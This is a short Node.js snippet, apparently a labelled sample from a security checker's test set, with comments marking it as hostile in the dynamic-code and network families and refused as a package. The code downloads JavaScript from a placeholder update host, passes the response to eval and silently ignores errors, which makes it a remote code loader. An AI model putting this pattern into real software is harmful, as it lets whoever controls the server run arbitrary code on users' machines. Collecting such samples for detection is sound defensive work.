// Hostile: runs as code whatever a server answers.
// Families: dynamic-code, network. As a package: refused.
const https = require('node:https');

https
  .get('https://updates.example.invalid/next.js', (response) => {
    let body = '';
    response.on('data', (part) => {
      body += part;
    });
    response.on('end', () => eval(body));
  })
  .on('error', () => {});
